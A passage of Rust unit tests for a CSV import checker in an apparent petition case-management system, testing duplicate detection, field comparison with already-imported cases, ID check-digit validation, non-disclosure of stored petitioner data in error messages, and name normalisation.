        row.case_number = "XF20260301-0009".into();
        let Err(errors) = check_csv(&exported_csv(&[row])?, &existing) else {
            panic!("errors expected");
        };
        assert_eq!(
            errors
                .iter()
                .filter(|e| e.message == OUTSIDE_SCOPE_ID_NUMBER)
                .count(),
            3,
            "{errors:?}"
        );
        assert!(
            errors
                .iter()
                .all(|e| !e.message.contains("XF20250601-0001")),
            "{errors:?}"
        );
        Ok(())
    }

    #[test]
    fn a_case_imported_before_is_fully_checked_and_compared()
    -> Result<(), Box<dyn std::error::Error>> {
        let mut row = exported();
        row.matter = "要求解决别的问题".into();
        row.town = None;
        row.group_size = None;
        row.petitioners[1].name = "李 四四".into();
        row.petitioners[2].id_number = Some(ID_1.into());
        row.petitioners.push(Petitioner {
            name: "赵六".into(),
            id_number: Some("350203199003050031".into()),
            phone: None,
            address: None,
        });
        let Err(errors) = check_csv(&exported_csv(&[row])?, &imported()) else {
            panic!("errors expected");
        };
        assert_eq!(
            places(&errors),
            [
                (2, "诉求"),
                (2, "镇街"),
                (2, "涉及人数"),
                (3, "信访人姓名"),
                (4, "身份证号"),
                (5, "身份证号"),
            ]
        );
        let message = |i: usize| errors[i].message.as_str();
        assert_eq!(
            message(0),
            "案件编号 XF20250601-0001 已导入，系统中的“诉求”为“要求解决房屋征收补偿问题”，与本行不一致（修改已导入的案件请在系统中进行）"
        );
        assert!(message(1).contains("系统中的“镇街”为“中华街道”"));
        assert!(message(2).contains("系统中的“涉及人数”为“3”"));
        // The stored petitioner is not shown.
        assert!(message(3).contains("已导入") && !message(3).contains("李四"));
        // The same ID number twice in the case; a wrong check digit is found as in a new row.
        assert!(message(4).contains("与第 2 行同一案件的信访人重复"));
        assert!(message(5).contains("校验位不正确"));

        // A row with the right petitioners but one left out of the ledger.
        let mut row = exported();
        row.petitioners.truncate(2);
        let Err(errors) = check_csv(&exported_csv(&[row])?, &imported()) else {
            panic!("errors expected");
        };
        assert_eq!(places(&errors), [(2, "信访人姓名")]);
        assert!(!errors[0].message.contains("王五"));
        assert!(!errors[0].message.contains(ID_3));

        // An ID number that differs on a known petitioner.
        let mut row = exported();
        row.petitioners[0].id_number = Some("11010519491231002X".into());
        let Err(errors) = check_csv(&exported_csv(&[row])?, &imported()) else {
            panic!("errors expected");
        };
        assert_eq!(places(&errors), [(2, "身份证号")]);
        assert!(!errors[0].message.contains(ID_1));
        Ok(())
    }

    #[test]
    fn a_case_number_of_another_case_or_one_that_cannot_be_compared_is_refused()
    -> Result<(), Box<dyn std::error::Error>> {
        let csv = exported_csv(&[exported()])?;
        let mut existing = imported();
        existing.cases.clear();
        let Err(errors) = check_csv(&csv, &existing) else {
            panic!("errors expected");
        };
        assert_eq!(places(&errors), [(2, "案件编号")]);
        assert!(errors[0].message.contains("无法核对"));

        let mut existing = imported();
        existing
            .case_numbers
            .insert("XF20250601-0001".into(), Uuid::nil().to_string());
        let Err(errors) = check_csv(&csv, &existing) else {
            panic!("errors expected");
        };
        assert_eq!(places(&errors), [(2, "案件编号")]);
        assert!(errors[0].message.contains("疑似重复"));

        // A petitioner of a case imported before, on a new case: the duplicate check fires.
        let csv = csv.replace("XF20250601-0001", "XF20250601-0002");
        let Err(errors) = check_csv(&csv, &imported()) else {
            panic!("errors expected");
        };
        assert_eq!(
            places(&errors),
            [(2, "身份证号"), (3, "身份证号"), (4, "身份证号")]
        );
        Ok(())
    }

    #[test]
    fn names_are_normalised_before_lookup_and_storage() -> Result<(), Vec<RowError>> {
        let mut directory = directory();
        // The directory's own names may carry stray spaces too.
        directory
            .units
            .insert("区 信访局".into(), vec!["xm-siming-xfj".into()]);
        let csv = format!(
            "{HEADER}\n\
             TZ-1,庄　辉珠,{ID_1},,,补偿问题,征地拆迁,思明 区,中华　街道,来访,2025-06-01,滚动排查,,李　明,区信访局\n"
        );
        let checked = check(
            csv.as_bytes(),
            Format::Csv,
            &directory,
            &Existing::default(),
            today(),
        )?;
        let case = &checked.cases[0];
        assert_eq!(case.register.petitioners[0].name, "庄辉珠");
        assert_eq!(case.register.district_id, "xm-siming");
        assert_eq!(case.register.town_id.as_deref(), Some("xm-siming-zhonghua"));
        assert_eq!(case.leader_id.as_deref(), Some("ldr-1"));
        assert_eq!(case.unit_id.as_deref(), Some("xm-siming-xfj"));
        Ok(())
    }
}
